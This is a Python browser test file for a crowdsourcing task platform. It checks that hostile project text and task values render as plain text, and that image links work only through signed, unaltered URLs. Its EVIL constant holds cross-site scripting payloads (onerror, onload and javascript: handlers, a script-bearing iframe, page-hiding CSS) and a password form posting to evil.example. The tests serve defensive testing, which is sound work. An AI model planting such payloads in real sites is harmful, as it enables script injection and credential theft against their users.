"""What strangers write or link stays what it is: text, and pictures at addresses that are theirs to see."""

from __future__ import annotations

import json

from PIL import Image
from playwright.sync_api import expect

from tests.browser.requester import Requester, interface, items
from tests.browser.visitor import Visitor
from tests.support.bodies import VIEW
from tests.support.server import RunningServer

RUN = "window.hacked=1"
EVIL = (
    f"<img src=/nowhere.png onerror='{RUN}'><script>{RUN}</script><svg onload='{RUN}'></svg>"
    f"<a href='javascript:{RUN}'>here</a><iframe srcdoc='<script>top.hacked=1</script>'></iframe>"
    "<form action='https://evil.example/'><input name=password></form>"
    "<style>body, main, button { display: none !important }</style><p onclick='{RUN}'>Fine.</p>"
)
LETTER = {"type": "data.output", "path": "label"}
WORDS = {"label": {"type": "string"}}


def _untouched(worker: Visitor) -> None:
    assert worker.page.evaluate("window.hacked") is None
    assert worker.page.locator("iframe, form[action*='evil']").count() == 0


def test_hostile_instructions_do_nothing(worker: Visitor, requester: Requester) -> None:
    project = requester.project(public_instructions=EVIL, public_name=EVIL[:60], public_description=EVIL)
    requester.job(items(EVIL, "b", "c", "d"), project=project)
    worker.expect_refusal(404, "/nowhere.png")  # a plain picture is allowed; what it does when it fails is not
    worker.page.goto(f"/tasks?projectId={project['id']}")
    card = worker.page.locator(f"[data-testid=task-card][data-project-id='{project['id']}']")
    expect(card).to_contain_text("<script>")
    card.get_by_role("button", name="Start").click()
    expect(worker.page.get_by_text("Fine.")).to_be_visible()
    worker.page.get_by_text("Fine.").click()
    worker.page.get_by_text("here", exact=True).click()
    _untouched(worker)
    expect(worker.button("Start working")).to_be_visible()
    worker.button("Start working").click()
    expect(worker.task(1)).to_contain_text("<script>")
    _untouched(worker)


def test_hostile_values_are_text_in_every_component(worker: Visitor, requester: Requester) -> None:
    value = {"type": "data.input", "path": "item"}
    view = {
        "type": "view.list",
        "items": [
            {"type": "view.markdown", "content": value},
            {"type": "view.alert", "content": {"type": "view.text", "content": value}},
            {"type": "field.textarea", "label": value, "data": LETTER},
        ],
    }
    pool = requester.job(
        items(EVIL, f"[x](javascript:{RUN}) ![y](javascript:{RUN})", "c", "d"),
        project=requester.project(task_spec=interface(view, WORDS)),
    )
    worker.start(pool)
    for number in range(1, 5):
        worker.task(number).get_by_role("textbox").fill(f"{EVIL}\t{number}")
    _untouched(worker)
    assert worker.page.locator("a[href^='javascript'], img[src^='javascript']").count() == 0
    worker.expect_refusal(409, f"/api/worker/v1/pools/{pool['id']}/assignments")
    done = worker.assignment_id
    worker.submit()
    expect(worker.page.get_by_role("heading", name="All done here")).to_be_visible()
    worker.page.goto(f"/history/{done}")
    expect(worker.task(1).get_by_role("textbox")).to_have_value(f"{EVIL}\t1")
    _untouched(worker)
    assert {row["OUTPUT:label"] for row in requester.table(pool)} == {f"{EVIL}\t{number}" for number in range(1, 5)}


def test_pictures_of_ours_come_by_signed_addresses_alone(
    worker: Visitor, requester: Requester, served: RunningServer
) -> None:
    folder = served.data / "media" / "letters"
    folder.mkdir(parents=True)
    Image.new("L", (40, 30), 128).save(folder / "a.png")
    address = f"{served.url}/media/letters/a.png"
    picture = {"type": "view.image", "url": {"type": "data.input", "path": "image"}}
    spec = interface(
        {"type": "view.list", "items": [picture, {"type": "field.text", "label": "Letter", "data": LETTER}]},
        WORDS,
        {"image": {"type": "url"}},
    )
    pool = requester.job([{"image": address}] * 4, project=requester.project(task_spec=spec))
    worker.start(pool)
    image = worker.task(1).locator("img")
    expect(image).to_have_js_property("naturalWidth", 40)
    signed = image.get_attribute("src")
    assert signed
    assert signed.startswith(f"{address}?assignment={worker.assignment_id}&")
    fetch = worker.context.request.get
    assert fetch(signed).status == 200
    for wrong in (address, signed[:-2], signed.replace("a.png", "b.png"), signed.replace("expires=", "expires=9")):
        refused = fetch(wrong)
        assert (refused.status, refused.json()["code"]) == (403, "ACCESS_DENIED")
    assert requester.http.get(address).status_code == 200
    # What requesters are given is the address that they sent.
    assert requester.assignments(pool)[0]["tasks"][0]["input_values"] == {"image": address}


def test_an_unknown_component_is_named_and_the_rest_works(worker: Visitor, requester: Requester) -> None:
    letters = json.loads(json.dumps(VIEW["view"]))["items"]
    output = {"label": {"type": "string", "allowed_values": ["a", "b"]}}
    view = {"type": "view.list", "items": [{"type": "view.hologram"}, *letters]}
    pool = requester.job(items("a", "b", "c", "d"), project=requester.project(task_spec=interface(view, output)))
    worker.start(pool)
    expect(worker.task(1).get_by_test_id("placeholder")).to_contain_text("view.hologram")
    for number in range(1, 5):
        worker.choose(number, "A")
    worker.expect_refusal(409, f"/api/worker/v1/pools/{pool['id']}/assignments")
    worker.submit()
    expect(worker.page.get_by_role("heading", name="All done here")).to_be_visible()
    assert [page["status"] for page in requester.assignments(pool)] == ["ACCEPTED"]
